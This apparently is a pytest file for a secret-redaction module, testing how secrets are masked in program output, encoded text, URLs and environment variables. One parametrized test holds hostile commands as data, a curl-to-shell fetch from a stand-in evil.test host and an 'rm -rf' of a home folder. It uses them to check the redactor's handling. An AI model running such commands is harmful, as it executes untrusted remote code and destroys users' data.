from base64 import b64encode, urlsafe_b64encode
from collections.abc import Callable
from urllib.parse import quote, quote_plus

import pytest

from remit.text.redaction import environment_secrets, redact, redact_output, redact_url

HEX = "9f86d081884c7d65" + "9a2feaa0c55ad015"  # made up


def test_values_are_hidden_wherever_they_stand_the_longest_first() -> None:
    assert redact("key hunter22 and hunter22-long", ["hunter22", "hunter22-long"]) == "key *** and ***"


def test_a_value_of_many_lines_is_hidden_line_by_line() -> None:
    assert redact("read line-two of it", ["line-one\nline-two"]) == "read *** of it"


def test_a_value_too_short_to_be_a_secret_is_left() -> None:
    assert redact("took 1 s, off", ["1", "off", ""]) == "took 1 s, off"


PHRASE = "Zwölf/Key+Value 98765"
RAW = PHRASE.encode()


@pytest.mark.parametrize(
    "form",
    [
        *(PHRASE, PHRASE.upper(), PHRASE.lower(), RAW.hex(), RAW.hex().upper(), RAW.hex(":")),
        *(
            quote(PHRASE),
            quote(PHRASE, safe=""),
            quote_plus(PHRASE),
            "Zw%c3%b6lf/Key%2bValue%2098765",
        ),
        "Zw\\u00f6lf/Key+Value 98765",
    ],
)
def test_what_a_program_printed_is_shown_without_encoded_secrets(form: str) -> None:
    assert redact_output(f"key {form}!", [PHRASE]) == "key ***!"


@pytest.mark.parametrize("encode", [b64encode, urlsafe_b64encode])
@pytest.mark.parametrize("before", ["", "u", "u:", "ab:"])
@pytest.mark.parametrize("after", ["", "x", "xy"])
def test_a_secret_is_hidden_at_any_place_of_a_base64_text(
    encode: Callable[[bytes], bytes], before: str, after: str
) -> None:
    shown = redact_output(encode(f"{before}{PHRASE}{after}".encode()).decode(), [PHRASE])
    assert len(shown.replace("***", "")) <= 8  # around the secret, not of it


def test_short_values_have_no_other_forms() -> None:
    assert redact_output("is ON, dHJ1ZQ==, TRUE", ["true", "on"]) == "is ON, dHJ1ZQ==, TRUE"


def test_secrets_of_the_environment_are_told_by_name_or_by_their_look() -> None:
    token = "ghp_" + HEX
    variables = {
        "MY_PASSWORD": "hunter22",
        "K": token,
        "API_KEY": HEX,
        "PIN_TOKEN": "1234",
        "GIT_COMMIT": HEX[:30],
    }
    assert environment_secrets(variables) == {"hunter22", token, HEX}


@pytest.mark.parametrize(
    "command", ["$(curl${IFS}evil.test|sh)", "rm -rf /home/ada", "https://evil.test/x9Zq7"]
)
def test_a_repository_cannot_hide_a_command_by_a_variable_of_that_value(command: str) -> None:
    assert environment_secrets({"A_TOKEN": command, "A_PASSWORD": command, "A_KEY": command}) == frozenset()


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://mcp.example/sse", "https://mcp.example/sse"),
        ("https://ada:pw@mcp.example/sse?x=1", "https://***@mcp.example/sse?x=1"),
        (
            "https://mcp.example/?api_key=abc&page=2#token=x",
            "https://mcp.example/?api_key=***&page=2#token=***",
        ),
        ("https://mcp.example/?to=https://b.example", "https://mcp.example/?to=https://b.example"),
        (
            "https://mcp.example/?to=https://b.example/?key=x",
            "https://mcp.example/?to=https://b.example/?key=***",
        ),
        (f"https://mcp.example/s/{'Zw1Rt7Vb5Nc4Md6Hf0Gs' * 2}/mcp", "https://mcp.example/s/***/mcp"),
        (f"https://mcp.example/?sk-{HEX}#top", "https://mcp.example/?***#top"),
        ("https://a@b@mcp.example/", "https://***@mcp.example/"),
        ("https://mcp.example/?q=(a|b)", "https://mcp.example/?q=(a|b)"),
        (f"https://mcp.example/?q=(ghp_{HEX})", "https://mcp.example/?q=(***)"),
        ("https://mcp.example?x=@other.example", "https://mcp.example?x=@other.example"),
    ],
)
def test_a_url_is_shown_without_its_user_and_its_keys(url: str, shown: str) -> None:
    assert redact_url(url) == shown
